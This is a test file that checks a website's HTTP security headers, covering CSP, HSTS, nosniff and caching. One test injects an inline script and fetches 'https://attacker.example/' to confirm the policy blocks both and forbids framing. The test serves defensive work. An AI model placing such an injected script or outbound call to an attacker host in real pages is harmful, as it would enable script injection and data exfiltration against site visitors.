import { describe, expect } from "vitest";
import { test } from "./support/stage.ts";

/** Every other test here would fail on a violation as well: the browser complains of it in the console. */
describe("the headers of Hosting", () => {
	test.for(["/", "/articles/some-address", "/color-scheme.js"])("are on %s", async (path, { enter }) => {
		const { page } = await enter("Visitor");
		const headers = (await page.request.get(path)).headers();
		expect(headers).toMatchObject({
			"content-security-policy": expect.stringContaining("default-src 'none'; script-src 'self'"),
			"strict-transport-security": expect.stringContaining("max-age="),
			"x-content-type-options": "nosniff",
			"cross-origin-opener-policy": "same-origin-allow-popups",
			"cache-control": "no-cache",
		});
	});

	test("let the browser keep what carries a hash in its name", async ({ enter }) => {
		const { page } = await enter("Visitor");
		await page.goto("/");
		const asset = await page.locator('script[src^="/assets/"]').first().getAttribute("src");
		const headers = (await page.request.get(asset ?? "")).headers();
		expect(headers).toMatchObject({
			"cache-control": "public, max-age=31536000, immutable",
			"content-security-policy": expect.stringContaining("default-src 'none'"),
		});
	});

	test("let no browser keep the news that such a file is missing", async ({ enter }) => {
		const { page } = await enter("Visitor");
		const answer = await page.request.get("/assets/gone-1a2b3c4d.js");
		expect([answer.status(), answer.headers()["cache-control"]]).toEqual([404, "no-cache"]);
		expect(answer.headers()["content-security-policy"]).toContain("default-src 'none'");
	});

	test("keep an injected script from running, from sending and from being framed", async ({ enter }) => {
		const person = await enter("Visitor");
		person.expect(/Content Security Policy/);
		const { page } = person;
		await page.goto("/");
		const outcome = await page.evaluate(async () => {
			const stopped: string[] = [];
			const violations = new Promise<void>((resolve) => {
				document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
					if (stopped.push(effectiveDirective) === 2) resolve();
				});
			});
			const script = document.createElement("script");
			script.textContent = "window.injected = true";
			document.body.append(script);
			await fetch("https://attacker.example/", { mode: "no-cors" }).catch(() => {});
			await violations;
			return { ran: "injected" in window, stopped };
		});
		expect(outcome).toEqual({ ran: false, stopped: ["script-src-elem", "connect-src"] });
		expect((await page.request.get("/")).headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
	});
});
